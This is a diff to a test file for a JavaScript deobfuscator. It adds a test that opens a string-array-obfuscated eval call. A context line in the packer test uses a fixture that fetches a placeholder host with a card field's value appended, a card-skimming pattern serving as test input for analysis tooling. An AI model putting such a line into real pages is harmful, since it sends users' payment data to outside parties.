@@ -48,6 +48,17 @@ describe('deobfuscate: layers', () => {
     assert.doesNotMatch(opened.text!, /fromCharCode|parseInt/);
   });
 
+  it('opens the list for code in a text, too', async () => {
+    const text = obfuscate("run(eval('var sender = track; [sender(\\'order placed\\')].length'));", {
+      stringArray: true,
+      stringArrayThreshold: 1,
+    });
+    assert.match(text, /eval\(['"]/);
+    const opened = await open(text);
+    assert.match(opened.text!, /"order placed"\)\]/);
+    assert.doesNotMatch(opened.text!, /eval/);
+  });
+
   it('opens a packer', async () => {
     const opened = await open(pack("fetch('https://stats.invalid/' + card.value)"));
     assert.ok(opened.text!.includes('https://stats.invalid/'));
